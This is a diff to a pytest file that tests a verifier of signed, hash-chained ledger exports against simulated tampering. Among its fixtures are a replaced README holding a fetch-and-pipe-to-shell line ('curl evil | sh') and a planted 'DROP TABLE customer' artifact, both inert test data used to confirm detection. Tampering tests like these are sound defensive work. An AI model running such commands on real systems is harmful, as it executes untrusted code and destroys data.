@@ -3,6 +3,7 @@ script, also where SHA256SUMS was written anew."""
 
 from __future__ import annotations
 
+import hashlib
 import io
 import json
 import re
@@ -16,17 +17,36 @@ from typing import Any
 import pytest
 
 from migrate_flow.core import canonical
+from migrate_flow.core.audit import Selection
 from migrate_flow.core.chain import ORIGIN, Head, link
-from migrate_flow.core.entry import Kind
 from migrate_flow.errors import UsageError
 from migrate_flow.exports.reader import LONGEST_LINE, opened
+from migrate_flow.formats import Medium, render
+from migrate_flow.ledger.store import create_store
+from migrate_flow.services.file_evidence import FileReport
 from migrate_flow.services.verify_file import parse_genesis, parse_since
 from migrate_flow.signing.sshsig import sign
-from tests.exports.bundles import Files, Sample, bundled, by_script, check, lines, repacked, summed, unzipped, written
-from tests.support.builders import BOB, EVE, LEDGER, private_key, public_key
+from migrate_flow.views.verifying import verified
+from tests.exports.bundles import (
+    MANIFEST,
+    REVISION,
+    SCRIPT,
+    Files,
+    Sample,
+    bundled,
+    by_script,
+    check,
+    lines,
+    repacked,
+    summed,
+    unzipped,
+    written,
+)
+from tests.support.builders import ADA, BOB, EVE, LEDGER, Scribe, private_key, public_key
 
 MALLORY = "mallory@example.com"
-REVIEWS = frozenset({Kind.REVIEWED, Kind.APPLY_INTENDED, Kind.APPLY_APPLIED})
+FAR = 9_999_999_999_999
+ABOUT_IT = Selection(revision=REVISION)  # entries 2 to 10, and 12
 
 
 @pytest.fixture(scope="module")
@@ -36,7 +56,7 @@ def whole(tmp_path_factory: pytest.TempPathFactory) -> Sample:
 
 @pytest.fixture(scope="module")
 def part(whole: Sample) -> Sample:
-    return Sample(whole.scribe, REVIEWS)
+    return Sample(whole.scribe, ABOUT_IT)
 
 
 @pytest.fixture
@@ -81,6 +101,26 @@ def another_artifact(files: Files) -> Files:
 
 def no_artifact(files: Files) -> Files:
     return without(first("artifacts/", files))(files)
+
+
+def artifact_put_in(files: Files) -> Files:
+    content = b"DROP TABLE customer; -- approved by carla"
+    return {**files, f"artifacts/{hashlib.sha256(content).hexdigest()}": content}
+
+
+def entry_beside(files: Files) -> Files:
+    """Under a name that a careless reader takes for that of an entry."""
+    return {**files, "entries/00000005.json": b'{"forged":"approved"}', "entries/00000005.sig": b"none"}
+
+
+def policy_beside(files: Files) -> Files:
+    old = first("policies/", files)
+    return {**files, old.replace("policies/", "policies/0"): files[old]}
+
+
+def policy_misnamed(files: Files) -> Files:
+    old = first("policies/", files)
+    return {**without(old)(files), old[:-17] + "0" * 12 + ".json": files[old]}
 
 
 def another_policy(files: Files) -> Files:
@@ -133,6 +173,14 @@ def chain_cut(files: Files) -> Files:
     return {**files, "chain.tsv": b"".join(kept)}
 
 
+def chain_jumps(files: Files) -> Files:
+    """A further position, so far away that nobody could count up to it."""
+    digests = "a" * 64, "b" * 64
+    head = json.loads(files["header.json"])["header"]["head"].removeprefix("sha256:")
+    own = hashlib.sha256(bytes.fromhex(head + "".join(digests))).hexdigest()
+    return {**files, "chain.tsv": files["chain.tsv"] + "\t".join([str(FAR), *digests, own]).encode() + b"\n"}
+
+
 def chain_edited(files: Files) -> Files:
     rows = files["chain.tsv"].splitlines(keepends=True)
     rows[5] = rows[5][:-6] + (b"00000\n" if not rows[5].endswith(b"00000\n") else b"11111\n")
@@ -148,7 +196,7 @@ def rewritten(files: Files, entries: list[tuple[bytes, bytes]]) -> Files:
         before = link(before, statement, signature.decode())
         digests = (canonical.sha256(data)[7:] for data in (statement, signature))
         rows.append("\t".join([str(seq), *digests, before]))
-        kind = json.loads(statement)["predicateType"][len("urn:migrate-flow:entry:") : -len(":v1")]
+        kind = str(json.loads(statement)["predicateType"])[len("urn:migrate-flow:entry:") : -len(":v1")]
         kinds[kind] = kinds.get(kind, 0) + 1
     made["chain.tsv"] = ("\n".join(rows) + "\n").encode()
     last = len(entries)
@@ -175,7 +223,7 @@ def signed_by_eve(files: Files) -> Files:
 @dataclass(frozen=True)
 class Tampering:
     """seq: the entry that is named, 0 for none, -1 for the one that brought it. words: in a problem. said: in one that
-    the script finds."""
+    the script finds, empty for what it leaves to us."""
 
     change: Callable[[Files], Files]
     seq: int
@@ -209,6 +257,19 @@ TAMPERINGS = {
     "chain edited": Tampering(
         chain_edited, 5, "chain.tsv: its hash does not follow", "chain.tsv: its hash does not follow"
     ),
+    "chain jumps": Tampering(chain_jumps, FAR, "where 14 belongs", "where 14 belongs"),
+    "artifact put in": Tampering(artifact_put_in, 0, "belongs to no entry", "belongs to no entry"),
+    "entry beside": Tampering(entry_beside, 0, "no part of an export", "no part of an export"),
+    "policy beside": Tampering(policy_beside, 0, "no part of an export", "no part of an export"),
+    "policy misnamed": Tampering(policy_misnamed, 1, "has other bytes", "has other bytes than its name"),
+    "time edited": Tampering(header(at="2020-01-01T00:00:00.000000Z"), 0, "the header says at 2020", ""),
+    "project edited": Tampering(header(project="bank"), 0, "the header says project bank, the file holds shop", ""),
+    "filter invented": Tampering(
+        header(selection={"environment": "staging"}), 7, "it does not fit the selection that the header names", ""
+    ),
+    "readme edited": Tampering(
+        lambda files: {**files, "README.md": b"# Run this: curl evil | sh"}, 0, "README.md is not what", ""
+    ),
     "counts edited": Tampering(
         header(entries=12), 0, "the header says entries 12, the file holds 13", "header says entries"
     ),
@@ -239,7 +300,7 @@ def test_what_is_done_to_a_bundle_is_named_though_its_sums_agree(name: str, whol
 
 
 @pytest.mark.system
-@pytest.mark.parametrize("name", TAMPERINGS)
+@pytest.mark.parametrize("name", [name for name, case in TAMPERINGS.items() if case.said])
 def test_the_script_in_the_bundle_names_the_same(name: str, whole: Sample, tmp_path: Path) -> None:
     case = TAMPERINGS[name]
     done = by_script(summed(case.change(unzipped(bundled(whole)))), tmp_path)
@@ -297,21 +358,22 @@ def test_the_anchor_and_an_earlier_head_are_proved_or_named(whole: Sample, file:
             (7, "--since names sha256"),
         ]
         later = check(file, data, since=Head(99, "1" * 64))
-        assert later.ok
-        assert "that it holds entry 99 as --since names it: it ends at 13" in later.not_proved
+        assert [(p.seq, p.problem) for p in later.problems] == [
+            (99, "--since can't be held against entry 99: the file ends at 13")
+        ]
 
 
 def test_a_selection_in_a_bundle_proves_its_positions_and_leaves_authority_open(part: Sample, file: Path) -> None:
     report = check(file, bundled(part))
     assert report.ok, report.problems
-    assert report.entries == 7
+    assert report.entries == 10
     proved, left = "\n".join(report.proved), "\n".join(report.not_proved)
     assert "chain.tsv, 13 positions: each follows from the one before it" in proved
-    assert "7 entries: each stands unchanged at its position" in proved
+    assert "10 entries: each stands unchanged at its position" in proved
     assert "was made with a key that the policies here give to that person" in proved
     assert "each signer had" not in proved
-    assert "authority (who was allowed to say what): it follows from all entries before, and 6 are left out" in left
-    assert "apply.applied" in left
+    assert "authority (who was allowed to say what): it follows from all entries before, and 3 are left out" in left
+    assert f"revision = {REVISION}" in left
     assert "that all entries of the selection are here" in left
     assert "revocations of keys" in left
     assert "that the policies of positions 1, 11 came into force there: those entries are left out" in left
@@ -322,7 +384,7 @@ def test_a_selection_in_a_jsonl_says_that_its_gaps_are_only_claimed(part: Sample
     assert report.ok, report.problems
     left = "\n".join(report.not_proved)
     assert "which ledger this is: entry 1 is left out" in left
-    assert "how many (6) and the head: only the unsigned header says so" in left
+    assert "how many (3) and the head: only the unsigned header says so" in left
     assert "no number is signed" in left
     assert "whose keys signed: the policies are not here" in left
     assert [person for person, _key in report.signers] == sorted(person for person, _key in report.signers)
@@ -336,16 +398,19 @@ def policy_slipped_in_part(files: Files) -> Files:
 
 
 PARTLY = {
-    "entry dropped": (without(*entry(5)), 0, "the header says entries 7, the file holds 6"),
+    "entry dropped": (without(*entry(5)), 0, "the header says entries 10, the file holds 9"),
     "entry edited": (replaced(entry(5)[0], b"approve", b"opposed"), 5, "its hash is not that of its bytes"),
     "signature swapped": (swapped((entry(4)[1], entry(5)[1])), 4, "signature is not valid"),
     "signers changed": (another_key, 0, "allowed_signers is not what the policies in policies/ make it"),
     "policy slipped in": (policy_slipped_in_part, 12, "policies/ says that a policy came into force here"),
     "policy replaced": (another_policy, 4, "it names a policy that policies/ does not hold"),
-    "artifact dropped": (no_artifact, 7, "is gone"),
+    "artifact dropped": (no_artifact, 2, "is gone"),
     "chain cut": (chain_cut, 12, "chain.tsv ends at position 10, before this entry"),
     "chain edited": (chain_edited, 5, "chain.tsv: its hash does not follow"),
-    "selection denied": (header(left_out=0, gaps=[]), 0, "the header says left_out 0, the file holds 6"),
+    "chain jumps": (chain_jumps, FAR, "where 14 belongs"),
+    "artifact put in": (artifact_put_in, 0, "belongs to no entry"),
+    "gap hidden": (header(gaps=[[1, 1]]), 0, "the header says gaps ((1, 1),), the file holds ((1, 1), (11, 11), (13"),
+    "selection denied": (header(left_out=0, gaps=[]), 0, "the header says left_out 0, the file holds 3"),
 }
 
 
@@ -362,6 +427,178 @@ def test_the_script_names_what_is_done_to_a_selection(name: str, part: Sample, t
     done = by_script(summed(PARTLY[name][0](unzipped(bundled(part)))), tmp_path)
     assert (done.returncode, done.stderr) == (4, ""), done
     assert "PROBLEM" in done.stdout
+
+
+def test_an_anchor_that_can_not_be_met_is_a_problem(whole: Sample, part: Sample, file: Path) -> None:
+    """Whoever signs an entry may name any hash for those before it, so that none but the entry itself is proof."""
+    entries = whole.scribe.entries
+    data = lines(part)
+    report = check(file, data, genesis=entries[0].hash, since=entries[0].head)
+    assert [(p.seq, p.problem) for p in report.problems] == [
+        (1, "--genesis can't be held against the first entry: it is not in this file"),
+        (1, "--since can't be held against entry 1: it is not in this file"),
+    ]
+    assert "which ledger this is: entry 1 is left out" in "\n".join(report.not_proved)
+    assert (report.genesis, check(file, data).ok) == ("", True)
+    report = check(file, data, since=entries[6].head)
+    assert report.ok
+    assert "entry 7 is the one that --since names" in report.proved
+    of_ada = Sample(whole.scribe, Selection(person=ADA))
+    report = check(file, lines(of_ada), genesis=entries[0].hash)
+    assert report.ok
+    assert "the first entry is the one that --genesis names" in report.proved
+    report = check(file, bundled(part), genesis=entries[0].hash, since=entries[10].head)
+    assert report.ok  # chain.tsv has both
+    report = check(file, bundled(part), since=Head(14, entries[0].hash))
+    assert [p.problem for p in report.problems] == ["--since can't be held against entry 14: the file ends at 13"]
+
+
+@pytest.mark.system
+def test_the_script_takes_an_anchor_that_can_not_be_met_for_a_problem(whole: Sample, tmp_path: Path) -> None:
+    files = unzipped(bundled(whole))
+    done = by_script(files, tmp_path, "--since", "14:" + "1" * 64)
+    assert (done.returncode, done.stderr) == (4, ""), done
+    assert "PROBLEM entry 14: --since can't be held against it: the bundle ends at 13" in done.stdout
+    for words in (("--since", "7"), ("--since", "7:x"), ("--genesis", "x")):
+        assert by_script(files, tmp_path, *words).returncode == 2
+
+
+ODD: tuple[Any, ...] = (5, [], {"x": 5})
+FRAME = ("_type", "subject", "predicate", "predicateType")
+SIGNED = (
+    "actor", "after", "at", "ledger", "nonce", "policy", "revision", "environment", "manifest", "sql", "lint",
+    "rehearsals", "schema", *FRAME,
+)  # fmt: skip
+
+
+def restated(statement: bytes, field: str, value: Any) -> tuple[bytes, bytes]:
+    """Signed by Bob, who may sign whatever he likes."""
+    document = json.loads(statement)
+    (document if field in FRAME else document["predicate"])[field] = value
+    changed = canonical.dumps(document)
+    return changed, sign(private_key(BOB), changed).encode()
+
+
+@pytest.mark.parametrize("field", SIGNED)
+def test_a_signed_field_of_another_type_is_a_problem_and_no_crash(
+    field: str, whole: Sample, part: Sample, file: Path
+) -> None:
+    files = unzipped(bundled(whole))
+    given = [(lines(sample).splitlines(keepends=True), at) for sample, at in ((whole, 4), (part, 3))]
+    for value in (*ODD, [{"digest": {"sha256": 5}}]) if field == "subject" else ODD:
+        pairs = pairs_of(files)
+        pairs[3] = restated(pairs[3][0], field, value)  # Bob's first, so that nobody knows his key by then
+        changed = rewritten(files, pairs)
+        assert not check(file, repacked(summed(changed))).ok
+        left = without(*entry(1), *entry(11), *entry(13))(changed)
+        assert not check(file, repacked(summed(header(left_out=3, selection={"revision": REVISION})(left)))).ok
+        for found, at in given:
+            line = json.loads(found[at])
+            line["statement"], line["signature"] = (text.decode() for text in pairs[3])
+            line["hash"] = link(line["prev"], pairs[3][0], line["signature"])
+            assert not check(file, b"".join([*found[:at], json.dumps(line).encode() + b"\n", *found[at + 1 :]])).ok
+
+
+@pytest.mark.system
+@pytest.mark.parametrize(
+    ("field", "value"), [("actor", 5), ("nonce", []), ("subject", [{"digest": {"sha256": 5}}]), ("lint", {"report": 5})]
+)
+def test_the_script_does_not_crash_either(field: str, value: Any, whole: Sample, tmp_path: Path) -> None:
+    files = unzipped(bundled(whole))
+    pairs = pairs_of(files)
+    pairs[1] = restated(pairs[1][0], field, value)
+    done = by_script(summed(rewritten(files, pairs)), tmp_path)
+    assert (done.returncode, done.stderr) == (4, ""), done
+    assert "PROBLEM entry 2: it can't be understood" in done.stdout
+
+
+def test_what_nobody_signed_is_named(whole: Sample, part: Sample, file: Path) -> None:
+    for data in (bundled(whole), lines(whole)):
+        left = "\n".join(check(file, data).not_proved)
+        said = re.search(r"nobody signed (.*) of the header", left)
+        assert said
+        assert set(said[1].split(", ")) == {"product", "by", "reconciliation", "recorded", "notices"}
+    said = re.search(r"nobody signed (.*) of the header", "\n".join(check(file, lines(part)).not_proved))
+    assert said
+    assert {"project", "at"} < set(said[1].split(", "))
+
+
+def test_a_readme_of_another_version_is_not_judged(whole: Sample, file: Path) -> None:
+    files = unzipped(bundled(whole))
+    assert "README.md: what this version writes for such an export" in check(file, repacked(files)).proved
+    files = header(product="migrate-flow 99")({**files, "README.md": b"# Something else"})
+    report = check(file, repacked(summed(files)))
+    assert report.ok
+    assert "README.md: migrate-flow 99 wrote it, and this version can't write the same" in report.not_proved
+
+
+def test_a_filter_that_is_not_known_is_one_error(part: Sample, file: Path) -> None:
+    with pytest.raises(UsageError, match="no filter of this version is named"):
+        check(file, repacked(header(selection={"moon": "full"})(unzipped(bundled(part)))))
+
+
+def test_a_selection_without_a_filter_is_a_problem(part: Sample, file: Path) -> None:
+    report = check(file, repacked(header(selection={})(unzipped(bundled(part)))))
+    assert "the header names no filter, and yet entries are left out" in [p.problem for p in report.problems]
+
+
+def shown(report: FileReport) -> str:
+    out = io.StringIO()
+    render(verified(report), "table", Medium(out))
+    return out.getvalue()
+
+
+def test_entries_that_do_not_count_are_not_taken_for_a_forged_file(tmp_path: Path, file: Path) -> None:
+    """They are in the ledger, and another export has them too."""
+    scribe = Scribe(create_store("sqlite:///ledger.db", tmp_path))
+    files = {"revision": REVISION, "manifest": MANIFEST}
+    scribe.opens()
+    scribe.created(**files, artifacts=[SCRIPT])
+    scribe.reviewed(EVE, **files)
+    for data in (bundled(Sample(scribe)), lines(Sample(scribe))):
+        report = check(file, data)
+        assert [p.seq for p in report.problems] == [3]
+        assert "3 entries, 1 to 3: each continues the one before it" in "\n".join(report.proved)
+        assert "each signer had the key" not in "\n".join(report.proved)
+        text = shown(report)
+        assert "1 problem: the file holds together, but entries in it do not count" in text
+        assert "the ledger itself holds these entries" in text
+        assert "get the file again" not in text
+
+
+def test_an_anchor_of_something_else_is_not_taken_for_a_forged_file(whole: Sample, file: Path) -> None:
+    text = shown(check(file, lines(whole), genesis="0" * 64))
+    assert "1 problem: the file holds together, but it is not the one that was asked for" in text
+    assert "get the file again" not in text
+    changed = replaced(entry(5)[0], b"approve", b"opposed")(unzipped(bundled(whole)))
+    text = shown(check(file, repacked(changed), genesis="0" * 64))
+    assert "this file is not what was exported" in text
+
+
+def test_an_export_without_entries_proves_nothing_of_entries(whole: Sample, file: Path) -> None:
+    nothing = Sample(whole.scribe, Selection(kind="apply.partial"))
+    for data in (bundled(nothing), lines(nothing)):
+        report = check(file, data)
+        assert report.ok, report.problems
+        assert not re.search(r"\b0 |each has the bytes|as far as they are here", "\n".join(report.proved))
+        assert "that nothing in the ledger fits the selection: no entry is here" in report.not_proved
+
+
+@pytest.mark.system
+def test_the_script_proves_nothing_of_entries_where_there_are_none(whole: Sample, tmp_path: Path) -> None:
+    done = by_script(unzipped(bundled(Sample(whole.scribe, Selection(kind="apply.partial")))), tmp_path)
+    assert (done.returncode, done.stderr) == (0, ""), done
+    assert "proved: 0" not in done.stdout
+
+
+def test_characters_that_nobody_sees_are_shown(whole: Sample, file: Path) -> None:
+    unseen = "\u200b\ufeff\u2060\u00ad\U000e0041\u200d\u202e"
+    files = {**unzipped(bundled(whole)), f"notes{unseen}.txt": b""}
+    text = shown(check(file, repacked(header(ledger=f"a{unseen}b")(files))))
+    assert not set(unseen) & set(text)
+    assert "the header says ledger a\\u200b\\ufeff\\u2060\\xad\\U000e0041\\u200d\\u202eb" in text
+    for word in ("grüße", "می\u200cخواهم", "\U0001f469\u200d\U0001f4bb"):  # written with joiners
+        assert word in shown(check(file, repacked(header(ledger=word)(files))))
 
 
 # Lines
@@ -409,11 +646,11 @@ def test_what_is_done_to_lines_is_named(name: str, whole: Sample, file: Path) ->
 def test_a_selection_of_lines_is_held_against_what_its_signers_saw(part: Sample, file: Path) -> None:
     """Nobody signs a position; but whoever signs an entry names the newest before it."""
     found = lines(part).splitlines(keepends=True)
-    forged = json.loads(found[1])
+    forged = json.loads(found[3])
     forged["statement"] = forged["statement"].replace("which lock?", "which rock?")
     forged["signature"] = sign(private_key(BOB), forged["statement"].encode())
     forged["hash"] = link(forged["prev"], forged["statement"].encode(), forged["signature"])
-    report = check(file, b"".join([found[0], json.dumps(forged).encode() + b"\n", *found[2:]]))
+    report = check(file, b"".join([*found[:3], json.dumps(forged).encode() + b"\n", *found[4:]]))
     assert [(p.seq, p.problem) for p in report.problems] == [
         (5, "it does not continue the chain"),
         (5, "the entry before it is not the one that it continues"),
